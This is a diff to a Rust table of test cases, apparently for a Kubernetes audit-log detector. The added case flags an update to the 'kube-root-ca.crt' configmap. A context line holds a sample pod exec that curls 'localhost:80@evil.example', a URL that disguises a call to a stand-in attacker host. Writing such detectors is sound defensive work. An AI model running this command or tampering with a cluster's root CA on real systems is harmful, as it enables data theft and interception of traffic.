@@ -202,6 +202,12 @@ const TOLD: &[(&str, &str, Severity, &str)] = &[
         r#""verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=curl&command=http%3A%2F%2Flocalhost%3A80%40evil.example%2Ft","user":{"username":"dana"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"}"#,
     ),
     (
+        "another authority for the pods of a namespace",
+        "AUD-R71-trust",
+        Severity::High,
+        r#""verb":"update","user":{"username":"dana"},"objectRef":{"resource":"configmaps","namespace":"shop","name":"kube-root-ca.crt"}"#,
+    ),
+    (
         "a kubelet entered on a node whose name misleads",
         "AUD-R36",
         Severity::High,
